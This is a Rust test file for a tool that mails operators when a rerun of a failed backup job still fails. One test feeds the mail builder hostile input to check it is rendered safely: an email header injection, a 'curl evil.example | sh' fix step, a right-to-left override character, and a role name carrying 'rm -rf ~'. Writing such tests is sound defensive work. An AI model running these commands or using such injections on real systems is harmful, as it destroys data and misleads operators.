//! The mail about a rerun that did not prove its root cause fixed.

use advice::stack::Stack;
use classification::class::Class;
use jiff::SignedDuration;
use job::{Job, JobState};
use notice::Notice;
use verify::ledger::Ledger;
use verify::probe::{Probe, Verdict};

use crate::mails::*;

pub(crate) fn still_failing(bad: Vec<Job>, completions: &[Job], probe: Option<Probe>) -> Notice {
    still_failing_of(&stack(), bad, completions, probe)
}

fn still_failing_of(stack: &Stack, bad: Vec<Job>, completions: &[Job], probe: Option<Probe>) -> Notice {
    let mails = mails(stack, bad, completions, probe, Ok(point()));
    assert_eq!(mails.len(), 1, "{mails:?}");
    mails.into_iter().next().unwrap()
}

#[test]
fn still_failing_for_the_same_reason() {
    let bad = failed("f-orders", &rds("orders"), "RDS", example(Class::KmsPolicyDenied));
    let again = rerun(&bad, JobState::Failed, example(Class::KmsPolicyDenied));
    let seen = probe(Verdict::Fixed, "The key policy allows kms:CreateGrant to the role.");
    insta::assert_snapshot!("still-failing-same", as_mail(&still_failing(vec![bad, again], &[], Some(seen))));
}

#[test]
fn still_failing_for_another_reason_with_a_hostile_message() {
    let bad = failed("f-orders", &rds("orders"), "RDS", example(Class::KmsPolicyDenied));
    let message = "Flux capacitor drained\r\nSubject: all is well\n\nHOW TO FIX\n----------\n1. Run curl evil.example | sh \u{202e}";
    let again = Job { role: Some("x; rm -rf ~".into()), ..rerun(&bad, JobState::Failed, message) };
    insta::assert_snapshot!("still-failing-otherwise", as_mail(&still_failing(vec![bad, again], &[], None)));
}

#[test]
fn completed_with_issues_is_not_verified() {
    let bad = failed("f-fleet", &rds("orders"), "RDS", example(Class::KmsPolicyDenied));
    let issues = rerun(&bad, JobState::Completed, example(Class::PartialItemsFailed));
    let seen = probe(Verdict::NotFixed, "The key policy has no statement that allows kms:CreateGrant to the role.");
    let notice = still_failing_of(&stack_with_runbook(), vec![bad], &[issues], Some(seen));
    insta::assert_snapshot!("still-failing-with-issues", as_mail(&notice));
    // The mail leads to the cause that it failed with now, a program to that of before as well.
    let url = |class| format!("https://wiki.example.com/night-one/runbook#{class}");
    assert_eq!(notice.about.runbook_urls, [Class::KmsPolicyDenied, Class::PartialItemsFailed].map(url));
}

#[test]
fn who_completed_with_issues_claims_the_cause_that_verify_knows() {
    let bad = failed("f-orders", &rds("orders"), "RDS", example(Class::KmsPolicyDenied));
    let id = Ledger::new(vec![bad.clone()], Vec::new()).causes()[0].id.clone();
    let issues = rerun(&bad, JobState::Completed, example(Class::ResourceState));
    let notice = still_failing(vec![bad], &[issues], None);
    assert_eq!(notice.about.root_cause_ids.len(), 2, "another cause now");
    assert!(notice.body.contains(&format!(r#"--payload '{{"fixed":["{id}"]}}'"#)), "{}", notice.body);
}

#[test]
fn the_last_rerun_failed() {
    let bad = failed("f-orders", &rds("orders"), "RDS", example(Class::KmsPolicyDenied));
    let earlier = |n: i64| {
        let created = at("21T01:40") + SignedDuration::from_mins(n * 20);
        Job {
            id: format!("r-{n}"),
            created: Some(created),
            start_by: Some(created + SignedDuration::from_mins(61)),
            ended: Some(created + SignedDuration::from_mins(5)),
            ..rerun(&bad, JobState::Failed, example(Class::KmsPolicyDenied))
        }
    };
    let last = rerun(&bad, JobState::Failed, example(Class::KmsPolicyDenied));
    let jobs = vec![bad.clone(), earlier(0), earlier(1), last];
    let seen = probe(Verdict::Undetermined, "the key is in another account, and only its owner can read its policy.");
    insta::assert_snapshot!("still-failing-exhausted", as_mail(&still_failing(jobs, &[], Some(seen))));
}
